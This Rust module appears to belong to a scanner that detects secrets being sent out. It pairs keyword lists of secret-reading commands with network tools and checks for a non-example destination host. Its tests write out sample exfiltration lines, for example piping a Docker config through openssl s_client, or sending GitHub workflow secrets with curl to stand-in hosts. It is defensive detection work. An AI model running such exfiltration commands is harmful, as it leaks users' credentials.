//! A source of secrets and a way out that stand close to each other, in files of every kind: makefiles, workflows,
//! settings of editors, languages without a grammar here.
//!
//! The data flow knows shells, Python and JavaScript. Everywhere else a credential file, an upload and a fixed host in
//! the same few lines are what a reader would see.

use crate::{
    flow::is_foreign,
    hosts::{self, HostKind},
    pattern::pattern,
    purpose::{self, Purpose},
    report::Severity::{self, Block},
    rule::Rule,
    sensitive,
};
use aho_corasick::{AhoCorasick, AhoCorasickKind};
use regex::Regex;
use std::{ops::Range, sync::LazyLock};

/// Bytes between a source and a way out.
const NEAR: usize = 400;
/// Bytes around a way out where its host stands.
const HOST: usize = 260;
/// Bytes of a file that are searched.
const LONGEST: usize = 256 << 10;
/// Ways out and sources of one file that are compared.
const COMPARED: usize = 64;

/// What prints or returns secrets: keys of a cloud, a key store, all variables, cookies.
const SOURCES: &str = "tojson(secrets)|sys.getenv()|env |printenv|export -p|get secrets|get secret |secitemcopymatching|ksecreturndata|find-generic-password|find-internet-password|dump-keychain|gh auth token|print-access-token|get-access-token|configure get aws|sts get-session-token|cookies.getall|document.cookie|pg_shadow|pg_authid|mysql.user|.authinfo|os.environ.items()|dict(os.environ)|system.getenv()|zsh_history|bash_history|op item get|pass show|secret-tool lookup|cmdkey /list|vaultcmd|netsh wlan show profile|getenvironmentvariables()";
/// What sends.
const WAYS: &str = "curl |curl.exe|wget |s_client|tcpstream::connect|net.dial|post(|post!(|\"post\"|'post'|put(|sendbeacon|fetch(|ping -|nc -|nc |ncat |telnet |httpbody|dooutput|url-request|urlopen(|datatask|new websocket|to program|rclone |scp |sendall(|invoke-restmethod|invoke-webrequest|irm |iwr |xmlhttprequest|new image(|httppost|httpclient|nslookup|uploadstring|send(|urllib";

/// Sources that the data flow follows better where it knows the language.
const FOLLOWED: [&str; 7] = [
    "env ",
    "printenv",
    "export -p",
    "os.environ.items()",
    "dict(os.environ)",
    "zsh_history",
    "bash_history",
];

/// Whether another analysis reads the same file.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reading {
    /// The data flow knows the language.
    Followed,
    /// A block of a page: the data flow of shells knows the environment.
    Shown,
    /// Nothing else follows values here.
    Alone,
}

struct Compiled {
    words: AhoCorasick,
    /// The number of words that are sources; they stand first.
    sources: usize,
}

static COMPILED: LazyLock<Option<Compiled>> = LazyLock::new(|| {
    let sources = SOURCES.split('|').count();
    let words = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(SOURCES.split('|').chain(WAYS.split('|')))
        .ok()?;
    Some(Compiled { words, sources })
});

/// Looks for a source of secrets near a way out that leads to a fixed host.
pub(crate) fn look(text: &str, how: Reading, purpose: &Purpose) -> Option<(Rule, Severity, Range<usize>)> {
    let text = &text[..crate::lines::floor(text, LONGEST)];
    let compiled = COMPILED.as_ref()?;
    let (mut sources, mut ways) = (Vec::new(), Vec::new());
    for hit in compiled.words.find_overlapping_iter(text) {
        let is_source = hit.pattern().as_usize() < compiled.sources;
        let list = if is_source { &mut sources } else { &mut ways };
        let followed = is_source
            && how != Reading::Alone
            && FOLLOWED.contains(&text[hit.range()].to_ascii_lowercase().as_str());
        if list.len() < COMPARED
            && !followed
            && is_start_of_word(text, &hit.range())
            && !is_remark(text, hit.start())
        {
            list.push(hit.range());
        }
    }
    if ways.is_empty() {
        return None;
    }
    let files = if how == Reading::Followed { 0 } else { COMPARED };
    for found in sensitive::credentials(text).take(files) {
        if !is_remark(text, found.start) && !is_known_hosts(text, &found) {
            sources.push(found);
        }
    }
    if sources.is_empty() {
        return None;
    }
    ways.iter().find_map(|way| {
        let near = |source: &&Range<usize>| {
            source.start.abs_diff(way.end) <= NEAR || way.start.abs_diff(source.end) <= NEAR
        };
        let source = sources.iter().find(near)?;
        let from = crate::lines::floor(text, way.start.saturating_sub(HOST));
        let to = crate::lines::floor(text, way.end + HOST);
        leads_away(&text[from..to], purpose).then(|| (Rule::SecretSent, Block, source.clone()))
    })
}

/// The place where a script takes a credential file or the whole environment.
pub(crate) fn collects(text: &str) -> Option<Range<usize>> {
    let text = &text[..crate::lines::floor(text, LONGEST)];
    let whole = [
        "dict(os.environ)",
        "os.environ.items()",
        "os.environ.copy()",
        "Object.entries(process.env)",
        "JSON.stringify(process.env",
    ];
    let environment = whole.iter().filter_map(|word| text.find(word).map(|at| at..at + word.len()));
    environment
        .chain(sensitive::credentials(text).filter(|found| !is_known_hosts(text, found)))
        .find(|found| !is_remark(text, found.start))
}

/// "env " inside another word is not a source, nor "nc " at the end of "async ".
fn is_start_of_word(text: &str, found: &Range<usize>) -> bool {
    let first = text.as_bytes().get(found.start).copied().unwrap_or_default();
    let before = found.start.checked_sub(1).and_then(|before| text.as_bytes().get(before)).copied();
    !first.is_ascii_alphanumeric()
        || before.is_none_or(|before| {
            !(before.is_ascii_alphanumeric() || matches!(before, b'_' | b'-' | b'.' | b'/' | b'$'))
                // A method: `client.post(`.
                || (before == b'.' && text[..found.end].ends_with('('))
        })
}

/// Whether a position is in a comment, or in a line that forbids.
fn is_remark(text: &str, at: usize) -> bool {
    let line = text[..at].rfind('\n').map_or(0, |end| end + 1);
    let before = text[line..at].trim_start();
    (before.starts_with('#') && !before.starts_with("#!") && !before.starts_with("#("))
        || before.starts_with("//")
        || before.starts_with("--")
        || before.starts_with(';')
        || before.starts_with('*')
        || ["never ", "not ", "n't "].iter().any(|word| before.to_ascii_lowercase().contains(word))
}

fn is_known_hosts(text: &str, at: &Range<usize>) -> bool {
    let rest = &text[at.end..];
    let end = rest.find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | ')')).unwrap_or(rest.len());
    rest[..end].rsplit('.').next() == Some("pub") || rest[..end].contains("known_hosts")
}

/// Whether a text has a fixed host that is neither this machine, nor an example, nor a well-known service.
pub(crate) fn leads_away(text: &str, purpose: &Purpose) -> bool {
    static BARE: LazyLock<Option<Regex>> = LazyLock::new(|| {
        pattern(
            r#"(?i)(?:\b(?:curl|wget|nc|ncat|telnet|ping|nslookup|scp)\s[^\n|;&]{0,80}?|-connect\s+|connect\(+['"]|dial\([^)\n]{0,20}['"])((?:[a-z0-9-]{1,40}\.){1,4}[a-z]{2,12}|(?:\d{1,3}\.){3}\d{1,3})(?:[/:?\s'"]|$)"#,
        )
    });
    let is_away = |kind: HostKind, host: &str| {
        kind.is_suspicious()
            || (kind == HostKind::Named
                && (is_foreign(host, purpose)
                    || (!purpose::is_service(host)
                        && (!purpose::is_example(host) || purpose::is_named_for_attacks(host))
                        && !purpose::is_placeholder(host)
                        && !purpose.declares(host))))
    };
    if hosts::addresses(text).iter().any(|address| is_away(address.kind, &address.host)) {
        return true;
    }
    BARE.as_ref().into_iter().flat_map(|regex| regex.captures_iter(text)).take(16).any(|found| {
        let host = found.get(1).map_or("", |host| host.as_str()).to_ascii_lowercase();
        let end = host.rsplit('.').next().unwrap_or_default();
        !is_file(end) && is_away(hosts::kind_of(&host, ""), &host)
    })
}

fn is_file(ending: &str) -> bool {
    matches!(
        ending,
        "json"
            | "sh"
            | "txt"
            | "md"
            | "py"
            | "js"
            | "mjs"
            | "ts"
            | "yml"
            | "yaml"
            | "toml"
            | "csv"
            | "log"
            | "gz"
            | "tgz"
            | "zip"
            | "tar"
            | "html"
            | "xml"
            | "env"
            | "pem"
            | "key"
            | "conf"
            | "local"
            | "test"
            | "example"
            | "invalid"
            | "sql"
            | "bin"
            | "exe"
            | "png"
            | "jpg"
            | "pdf"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn is_found(text: &str) -> bool {
        look(text, Reading::Alone, &Purpose::default()).is_some()
    }

    #[test]
    fn a_source_of_secrets_near_a_way_out_to_a_fixed_host_is_found_in_any_language() {
        for text in [
            "all:\n\t@tar cz ~/.docker/config.json | openssl s_client -connect b.a-b.eu:443\n",
            "POST(\"https://w.a-b.io/c\", body = paste(Sys.getenv()))",
            "run: echo \"${{ toJSON(secrets) }}\" | curl -d @- https://c.a-b.run/w",
        ] {
            assert!(is_found(text), "{text}");
        }
    }

    #[test]
    fn services_examples_comments_and_distance_are_not() {
        for text in [
            "curl -d \"$(gh auth token)\" https://api.github.com/x",
            "curl -d @~/.aws/credentials https://upload.example.com/x",
            "# reads ~/.aws/credentials\ncurl -d @a.json https://c.a-b.run/w",
            "ssh -i ~/.ssh/id_rsa.pub host\ncurl -d @a.json https://c.a-b.run/w",
        ] {
            assert!(!is_found(text), "{text}");
        }
        assert!(!is_found(&format!("cat ~/.netrc\n{}curl -d 1 https://c.a-b.run/w", "x = 1\n".repeat(200))));
    }
}
